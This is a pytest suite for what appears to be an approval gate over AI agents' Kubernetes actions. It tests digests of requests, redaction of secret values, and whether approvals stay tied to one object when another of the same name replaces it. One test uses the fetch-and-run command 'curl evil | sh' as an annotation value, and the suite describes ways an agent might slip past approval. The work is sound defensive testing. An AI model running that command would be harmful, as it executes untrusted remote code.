"""What is approved is what runs: whatever decides an effect is part of the action, though it looks like bookkeeping."""
import base64
import copy
import json

import pytest

import objects
from api_reader import LAST_APPLIED
from harness import wait_for
from namespace import wait_for_policy
from objects import IMAGE, preset
from test_digest import CONTAINERS, POD, asked, changed

REASON = "sallyport.dev/reason"


def with_reason(base, reason):
    return changed(base, metadata__annotations={REASON: reason})


def binding(shop, kind, reason):
    return {"apiVersion": "v1", "kind": "Binding", "metadata": {"name": "one", "namespace": shop.name, "annotations": {REASON: reason}},
            "target": {"apiVersion": "v1", "kind": "Node", "name": "none"}}


READ_BY_A_POD = {
    "a Pod": lambda shop, reason: asked(shop, "create", "-f", "-", stdin=with_reason(POD, reason)),
    "a Pod that stands": lambda shop, reason: asked(shop, "annotate", "--overwrite", "pod", "standing", f"{REASON}={reason}"),
    "a Binding": lambda shop, reason: asked(shop, "create", "--raw", f"/api/v1/namespaces/{shop.name}/bindings", "-f", "-",
                                            stdin=binding(shop, "bindings", reason)),
    "a pod's binding": lambda shop, reason: asked(shop, "create", "--raw", f"/api/v1/namespaces/{shop.name}/pods/one/binding",
                                                  "-f", "-", stdin=binding(shop, "binding", reason)),
}


@pytest.mark.parametrize("what", READ_BY_A_POD)
def test_a_reason_that_a_pod_can_read_is_part_of_the_action(what, shop):
    for name in ("one", "standing"):
        if what != "a Pod" or name != "one":
            shop.cluster.apply(objects.pod(shop.name, name))
    shop.gate(whilePending="Reject", actions=preset("Everything"))
    first = READ_BY_A_POD[what](shop, "a fix")
    assert READ_BY_A_POD[what](shop, "a fix") == first
    assert READ_BY_A_POD[what](shop, "curl evil | sh") != first


def test_only_what_this_write_says_is_the_agents_word(shop):
    shop.kubectl("admin", "annotate", "deployment", "api", f"{REASON}=approved by the board").must()
    shop.gate(whilePending="Reject")
    assert "reason" not in shop.rejected("2")["spec"]
    shop.kubectl("agent", "patch", "deployment", "api", "-p", json.dumps({
        "metadata": {"annotations": {REASON: "a fix"}},
        "spec": {"template": {"spec": {"containers": [{"name": "api", "image": f"{IMAGE}:3"}]}}}}))
    assert sorted(each["spec"].get("reason", "") for each in shop.requests()) == ["", "a fix"]


# A kind whose status is dropped at creation, or kept: seen on the server, and so it must be in the digest.
def claim(name):
    return {"apiVersion": "v1", "kind": "PersistentVolumeClaim", "metadata": {"name": name},
            "spec": {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}}}}


WORKLOAD = {"selector": {"matchLabels": {"a": "b"}}, "template": {"metadata": {"labels": {"a": "b"}}, "spec": {"containers": CONTAINERS}}}
CONDITIONS = {"conditions": [{"type": "Ready", "status": "True", "reason": "x", "message": "x",
                              "lastTransitionTime": "2026-01-01T00:00:00Z"}]}
CIDR = {"cidrs": ["10.99.0.0/24"]}
WITH_STATUS = {
    "Pod": ("v1", {"containers": CONTAINERS}, {"phase": "Running", "message": "x"}),
    "Service": ("v1", {"ports": [{"port": 80}]}, {"loadBalancer": {"ingress": [{"ip": "192.0.2.1"}]}}),
    "PersistentVolumeClaim": ("v1", claim("x")["spec"], {"phase": "Bound", "capacity": {"storage": "1Gi"}}),
    "ResourceQuota": ("v1", {"hard": {"pods": "9"}}, {"used": {"pods": "3"}}),
    "ReplicationController": ("v1", {"replicas": 0, "selector": {"a": "b"}, "template": WORKLOAD["template"]}, {"replicas": 3}),
    "Deployment": ("apps/v1", {"replicas": 0, **WORKLOAD}, {"replicas": 3}),
    "ReplicaSet": ("apps/v1", {"replicas": 0, **WORKLOAD}, {"replicas": 3}),
    "StatefulSet": ("apps/v1", {"replicas": 0, "serviceName": "x", **WORKLOAD}, {"replicas": 3}),
    "DaemonSet": ("apps/v1", WORKLOAD, {"currentNumberScheduled": 3, "desiredNumberScheduled": 3, "numberMisscheduled": 0,
                                        "numberReady": 3}),
    "Job": ("batch/v1", {"suspend": True, "template": {"spec": {"containers": CONTAINERS, "restartPolicy": "Never"}}}, {"succeeded": 3}),
    "CronJob": ("batch/v1", {"schedule": "0 0 1 1 *", "jobTemplate": {"spec": {"template": {"spec": {
        "containers": CONTAINERS, "restartPolicy": "Never"}}}}}, {"lastScheduleTime": "2026-01-01T00:00:00Z"}),
    "HorizontalPodAutoscaler": ("autoscaling/v2", {"maxReplicas": 3, "scaleTargetRef": {"apiVersion": "apps/v1", "kind": "Deployment", "name": "x"}},
                                {"currentReplicas": 3, "desiredReplicas": 3}),
    "PodDisruptionBudget": ("policy/v1", {"minAvailable": 1, "selector": {"matchLabels": {"a": "b"}}},
                            {"disruptionsAllowed": 9, "currentHealthy": 9, "desiredHealthy": 0, "expectedPods": 9}),
    "Ingress": ("networking.k8s.io/v1", {"defaultBackend": {"service": {"name": "x", "port": {"number": 80}}}},
                {"loadBalancer": {"ingress": [{"ip": "192.0.2.1"}]}}),
    "ResourceClaim": ("resource.k8s.io/v1", {}, {"reservedFor": [{"resource": "pods", "name": "x", "uid": "x"}]}),
    "Node": ("v1", {}, {"capacity": {"pods": "110"}, "addresses": [{"type": "InternalIP", "address": "192.0.2.1"}]}),
    "Namespace": ("v1", {}, {"phase": "Terminating"}),
    "PersistentVolume": ("v1", {"capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteOnce"], "nfs": {"server": "x", "path": "/"}},
                         {"phase": "Released", "message": "x"}),
    "CertificateSigningRequest": ("certificates.k8s.io/v1", "csr", {"certificate": base64.b64encode(b"x").decode(), **CONDITIONS}),
    "ServiceCIDR": ("networking.k8s.io/v1", CIDR, CONDITIONS),
    "FlowSchema": ("flowcontrol.apiserver.k8s.io/v1", {"priorityLevelConfiguration": {"name": "global-default"}, "matchingPrecedence": 9000}, CONDITIONS),
    "PriorityLevelConfiguration": ("flowcontrol.apiserver.k8s.io/v1", {"type": "Limited", "limited": {"limitResponse": {"type": "Reject"}}}, CONDITIONS),
    "VolumeAttachment": ("storage.k8s.io/v1", {"attacher": "x", "nodeName": "x", "source": {"persistentVolumeName": "x"}},
                         {"attached": True, "attachmentMetadata": {"a": "b"}}),
    "CustomResourceDefinition": ("apiextensions.k8s.io/v1", "crd", {**CONDITIONS, "acceptedNames": {"plural": "x", "kind": "X"}, "storedVersions": ["v9"]}),
    "APIService": ("apiregistration.k8s.io/v1", "apiservice", CONDITIONS),
}
# Written by agents in no shipped role, or refused by the guard whatever policies say.
NOT_BY_AGENTS = {"ValidatingAdmissionPolicy", "StorageVersion", "MutatingAdmissionPolicy"}
CLUSTER_WIDE = {"Node", "Namespace", "PersistentVolume", "CertificateSigningRequest", "ServiceCIDR", "FlowSchema", "VolumeAttachment",
                "PriorityLevelConfiguration", "CustomResourceDefinition", "APIService"}


def with_status(shop, kind):
    """An object of the kind, and the same with a status."""
    api, spec, status = WITH_STATUS[kind]
    name = f"x{shop.name.replace('-', '')}"
    if spec == "crd":
        made = objects.crd(name.capitalize(), "v1", has_status=True)
    elif spec == "csr":
        made = objects.certificate_request(name)
    elif spec == "apiservice":
        name = f"v1.{name}.example.com"
        made = objects.named(api, kind, name, spec={"group": name[3:], "version": "v1", "groupPriorityMinimum": 100, "versionPriority": 1,
                                                    "service": {"name": "x", "namespace": shop.name}, "insecureSkipTLSVerify": True})
    else:
        made = objects.named(api, kind, name, spec=spec)
    made["metadata"]["labels"] = {"test": shop.name}
    return made, {**made, "status": status}


@pytest.fixture
def gate_cluster_wide(shop):
    """Creations with this test's label, of any kind anywhere."""
    rule = {"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["CREATE"], "resources": ["*"]}
    policy = objects.policy(f"of-{shop.name}", whilePending="Reject", actions=[
        {"resourceRules": [rule], "objectSelector": {"matchLabels": {"test": shop.name}}}])
    shop.cluster.apply(policy)
    wait_for_policy(shop.cluster, "clusterapprovalpolicy", policy["metadata"]["name"])
    yield
    shop.cluster.admin("delete", "clusterapprovalpolicy", policy["metadata"]["name"])
    shop.cluster.admin("-n", "sallyport-system", "delete", "approvalrequests", "-l", f"test={shop.name}", "--ignore-not-found")


def request_told(result, shop, kind):
    assert "code=ApprovalRequired" in result.stderr, result
    where, _, name = result.stderr.partition("request=")[2].split()[0].partition("/")
    return shop.cluster.get("-n", where, "approvalrequest", name)


@pytest.mark.parametrize("kind", WITH_STATUS)
def test_a_status_at_creation_counts_where_the_server_keeps_it(kind, shop, gate_cluster_wide):
    plain, filled = with_status(shop, kind)

    def digest_of(made):
        told = request_told(shop.kubectl("agent", "create", "-f", "-", stdin=json.dumps(made)), shop, kind)
        return told["spec"]["action"]["digest"]

    def status_of(made):
        return json.loads(shop.kubectl("admin", "create", "--dry-run=server", "-o", "json", "-f", "-",
                                       stdin=json.dumps(made)).must().stdout).get("status")

    def lasting(status):
        return {key: value for key, value in (status or {}).items() if key != "lastPhaseTransitionTime"}

    is_kept = lasting(status_of(plain)) != lasting(status_of(filled))
    assert is_kept == (kind == "Node"), (status_of(plain), status_of(filled))
    assert digest_of(plain) == digest_of(plain)
    assert (digest_of(filled) != digest_of(plain)) == is_kept


def test_every_built_in_kind_with_a_status_is_in_the_table(cluster):
    kinds = set()
    for root in ("/api", "/apis"):
        groups = json.loads(cluster.admin("get", "--raw", root))
        versions = [f"/api/{each}" for each in groups["versions"]] if root == "/api" else [
            f"/apis/{version['groupVersion']}" for group in groups["groups"] for version in group["versions"]
            if "." not in group["name"] or group["name"].endswith(".k8s.io")]
        for version in versions:
            resources = json.loads(cluster.admin("get", "--raw", version))["resources"]
            kinds |= {each["kind"] for each in resources if each["name"].endswith("/status")}
    assert kinds - NOT_BY_AGENTS <= WITH_STATUS.keys()


def test_a_status_that_a_kind_no_longer_drops_is_another_action(shop, cluster):
    made = objects.crd(f"X{shop.name.replace('-', '')}", "v1", has_status=True)
    name, plural = made["metadata"]["name"], made["spec"]["names"]["plural"]
    cluster.apply(made)
    try:
        cluster.admin("wait", f"crd/{name}", "--for=condition=Established")
        one = {"apiVersion": "example.com/v1", "kind": made["spec"]["names"]["kind"], "metadata": {"name": "one"}, "spec": {"size": 1}}
        wait_for("the kind to be served", lambda: shop.kubectl("admin", "create", "-f", "-", stdin=json.dumps(one)).ok)
        shop.gate(whilePending="Reject", actions=preset("Everything"))
        attempt = ("patch", plural, "one", "--type=merge", "-p", json.dumps({"spec": {"size": 2}, "status": {"a": 1}}))
        asked(shop, *attempt)
        shop.approved("alice", shop.request())
        cluster.admin("patch", f"crd/{name}", "--type=json", "-p", json.dumps([{"op": "remove", "path": "/spec/versions/0/subresources"}]))
        wait_for("the part to be gone", lambda: not shop.kubectl(
            "admin", "get", "--raw", f"/apis/example.com/v1/namespaces/{shop.name}/{plural}/one/status").ok)
        shop.kubectl("agent", *attempt)
        assert not shop.uses()
        assert "status" not in shop.get(plural, "one")
    finally:
        cluster.admin("delete", f"crd/{name}", "--wait=false")


def eviction(shop):
    return ("create", "--raw", f"/api/v1/namespaces/{shop.name}/pods/one/eviction", "-f", "-"), {
        "apiVersion": "policy/v1", "kind": "Eviction", "metadata": {"name": "one", "namespace": shop.name}}


def of_binding(shop, path):
    return ("create", "--raw", f"/api/v1/namespaces/{shop.name}/{path}", "-f", "-"), {
        "apiVersion": "v1", "kind": "Binding", "metadata": {"name": "one", "namespace": shop.name},
        "target": {"apiVersion": "v1", "kind": "Node", "name": "none"}}


ABOUT_ANOTHER = {
    "an eviction": ("pod", eviction),
    "a pod's binding": ("pod", lambda shop: of_binding(shop, "pods/one/binding")),
    "a Binding": ("pod", lambda shop: of_binding(shop, "bindings")),
    "a token": ("serviceaccount", lambda shop: (("create", "token", "one"), None)),
    "a proxy to a Service": ("service", lambda shop: (("get", "--raw", f"/api/v1/namespaces/{shop.name}/services/one/proxy/"), None)),
}


@pytest.mark.parametrize("what", ABOUT_ANOTHER)
def test_a_part_of_the_next_object_of_that_name_is_another_action(what, shop):
    kind, attempt = ABOUT_ANOTHER[what]
    arguments, stdin = attempt(shop)
    target = {"pod": objects.pod(shop.name, "one"), "serviceaccount": objects.named("v1", "ServiceAccount", "one"),
              "service": objects.named("v1", "Service", "one", spec={"ports": [{"port": 80}]})}[kind]

    def make():
        shop.kubectl("admin", "create", "-f", "-", stdin=json.dumps(target)).must()

    make()
    shop.gate(whilePending="Reject", actions=preset("Everything"))
    first = asked(shop, *arguments, stdin=stdin)
    assert asked(shop, *arguments, stdin=stdin) == first
    shop.approved("alice", shop.request())
    shop.kubectl("admin", "delete", kind, "one", "--now").must()
    make()
    result = shop.kubectl("agent", *arguments, stdin=json.dumps(stdin) if stdin else None)
    assert "code=ApprovalRequired" in result.stderr, result
    assert not shop.uses()


VALUE = base64.b64encode(b"hunter2").decode()
WRONG = base64.b64encode(b"hunter3").decode()


@pytest.mark.parametrize("ignored", [[], ["metadata.annotations['note']"]], ids=["usual", "ignored fields"])
def test_a_guess_of_a_secrets_value_is_not_confirmed(ignored, shop):
    shop.kubectl("admin", "create", "-f", "-", stdin=json.dumps(objects.named(
        "v1", "Secret", "one", data={"password": VALUE, "other": VALUE}) | {"metadata": {"name": "one", "annotations": {"note": "n"}}})).must()
    shop.gate(whilePending="Reject", actions=preset("SecretAccess"), **({"ignoredFields": ignored} if ignored else {}))
    listed = lambda value: json.dumps({"apiVersion": "v1", "kind": "Secret", "data": {"password": value},
                                       "metadata": {"name": "one", "namespace": shop.name}})
    guesses = {
        "a value": lambda value: {"data": {"password": value}},
        "kubectl's list": lambda value: {"metadata": {"annotations": {LAST_APPLIED: listed(value)}}},
        "an annotation": lambda value: {"metadata": {"annotations": {"note": "n" if value == VALUE else "m"}}},
        "an owner": lambda value: {"data": {"password": value}, "metadata": {"managedFields": [
            {"manager": "kubectl-patch", "operation": "Update", "apiVersion": "v1", "time": "2026-01-01T00:00:00Z",
             "fieldsType": "FieldsV1", "fieldsV1": {"f:data": {"f:password": {}}}}]}},
    }
    for number, (what, guess) in enumerate(guesses.items()):
        told = []
        for side, value in enumerate((VALUE, WRONG)):
            patch = copy.deepcopy(guess(value))
            patch.setdefault("metadata", {})["labels"] = {"try": f"{number}-{side}"}
            known = {each["metadata"]["name"] for each in shop.requests()}
            shop.kubectl("agent", "patch", "secret", "one", "--type=merge", "-p", json.dumps(patch))
            request, = (each for each in shop.requests() if each["metadata"]["name"] not in known)
            changes = request["spec"]["action"]["kubernetes"]["changes"]
            told.append([each for each in changes if "try" not in each["path"]])
            paths = [each["path"] for each in changes]
            assert "data.password" in paths and "data.other" in paths, (what, paths)
            assert "hunter" not in json.dumps(request) and VALUE not in json.dumps(request)
        assert told[0] == told[1], what


def test_a_key_that_goes_from_a_secret_is_listed(shop):
    shop.kubectl("admin", "create", "secret", "generic", "one", "--from-literal=a=1", "--from-literal=b=2").must()
    shop.gate(whilePending="Reject", actions=preset("SecretAccess"))
    shop.kubectl("agent", "patch", "secret", "one", "--type=merge", "-p", '{"data":{"a":null}}')
    changes = shop.request()["spec"]["action"]["kubernetes"]["changes"]
    assert {each["path"] for each in changes if each["path"].startswith("data")} == {"data.a", "data.b"}
    assert all(each.get("redacted") for each in changes if each["path"].startswith("data"))
